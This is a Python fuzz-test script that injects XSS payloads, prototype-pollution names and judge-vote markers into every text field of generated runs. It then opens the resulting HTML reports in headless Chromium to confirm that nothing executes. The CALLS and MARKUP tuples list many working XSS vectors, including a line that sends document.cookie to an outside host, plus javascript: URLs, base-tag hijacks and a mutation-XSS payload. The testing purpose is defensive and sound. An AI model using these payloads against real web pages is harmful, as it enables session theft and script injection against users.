"""Attack the report with scripts, markup, control tokens, vote and hint markers in every text that a run can hold.

    python -m tests.fuzz.report [--attempts 10000] [--seed 0]

Runs are written with an attack in every text field of every table, manifest, counter and note. Their reports are opened
in headless Chromium, with every fold and turn, and up to 12 tokens per turn. Exit code 1 if a script from a log runs, a
dialog opens, the page requests anything, or an element appears that opdkit did not make.
"""

import argparse
import random
import sys
import tempfile
import time
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import TYPE_CHECKING

from .injection import GLUE, VOTES, attack

if TYPE_CHECKING:
    from browser import Watched

CALLS = ("window.pwned=1", "alert(1)", "fetch('https://example.org/?'+document.cookie)", "document.body.innerHTML='x'",
         "location='https://example.org/'", "import('https://example.org/x.js')")  # fmt: skip
MARKUP = ("<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "</script><script>{}</script>",
          "--><script>{}</script><!--", "\"><script>{}</script>", "' onmouseover='{}' x='", "<iframe srcdoc='<script>"
          "parent.{}</script>'></iframe>", "<body onload={}>", "<a href='javascript:{}'>click</a>",
          "<details open ontoggle={}>", "<style>@import 'https://example.org/x.css';</style>",
          "<base href=//example.org>", "<meta http-equiv=refresh content='0;url=javascript:{}'>",
          "</title><script>{}</script>", "</textarea><script>{}</script>",
          "<math><mtext></form><form><mglyph><style></math><img src onerror={}>",
          "<link rel=stylesheet href=//example.org/x>", "<form action=//example.org><button autofocus onfocus={}>",
          "<object data='javascript:{}'></object>", "javascript:{}", "data:text/html,<script>{}</script>",
          "&lt;script&gt;{}&lt;/script&gt;", "\\u003cscript\\u003e{}\\u003c/script\\u003e", "<template>{}",
          "<img src='https://example.org/pixel.png'>", "<xmp><script>{}</script></xmp>", "`${{{}}}`", "{{{{{}}}}}",
          "@data@", "${{data}}", "]]><script>{}</script>", "<!--<script>{}</script>-->")  # fmt: skip
NAMES = ("__proto__", "constructor", "toString", "hasOwnProperty", "null", "undefined", "-1", "NaN", "\u202e", "\ufeff")


def attacks(draw: random.Random) -> Callable[[], str]:
    """Return a function that gives a new attack per call: markup that runs code, judge markers, or JavaScript names."""
    number = 0

    def another() -> str:
        nonlocal number
        number += 1
        kind = number % 4
        if kind == 3:
            return attack(draw, VOTES) + str(number)
        if kind == 2:
            return draw.choice(NAMES) + draw.choice(("", draw.choice(GLUE) + str(number)))
        return draw.choice(GLUE) + draw.choice(MARKUP).format(draw.choice(CALLS)) + draw.choice(("", str(number)))

    return another


def look_at_everything(watched: "Watched") -> None:
    """Open every fold and every turn, click up to 12 tokens of each turn, and search for markup."""
    watched.page.evaluate(_LOOK)
    watched.page.fill("#search", "<script>")
    watched.page.evaluate("refilter()")


_LOOK = """async () => {
  const unfold = (place) => place.querySelectorAll('details').forEach((one) => { one.open = true; });
  unfold(document);
  for (const name of Object.keys(SORTS)) { document.getElementById('sort').value = name; refilter(); }
  for (const place of list.shown.keys()) {
    await choose(place);
    unfold(document.getElementById('whole'));
    [...document.querySelectorAll('.token')].slice(0, 12).forEach((one) => one.click());
    await new Promise((done) => setTimeout(done));
  }
}"""


def run(attempts: int, seed: int, folder: Path, turns: int = 100) -> tuple[int, list[str]]:
    """Make at least `attempts` attacks, on `turns` turns per page; return how many there were and what got through."""
    from browser import Watched, chromium
    from report_runs import hostile_run

    from opdkit.commands.report.page import make_page

    made, through, draw = 0, list[str](), random.Random(seed)
    with chromium() as browser:
        while made < attempts:
            place = folder / f"run-{made}"
            made += hostile_run(place, turns, attacks(draw))
            (place / "report.html").write_text(make_page(place), encoding="utf-8")
            watched = Watched(browser)
            watched.open(place / "report.html")
            look_at_everything(watched)
            through += watched.wrong
            if watched.page.evaluate("window.pwned") is not None:
                through.append(f"a script ran in the report of {place.name}")
            watched.close()
    return made, through


def main(arguments: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--attempts", type=int, default=10_000)
    parser.add_argument("--seed", type=int, default=0)
    options = parser.parse_args(arguments)
    start = time.monotonic()
    with tempfile.TemporaryDirectory() as folder:
        made, through = run(options.attempts, options.seed, Path(folder))
    for what in through[:20]:
        print(f"GOT THROUGH: {what}")
    print(f"{made:,} attacks in the report, {len(through):,} got through, {time.monotonic() - start:.0f} s")
    return int(bool(through))


if __name__ == "__main__":
    sys.path.insert(0, str(Path(__file__).parents[1]))  # tests import each other by their plain names
    sys.exit(main())
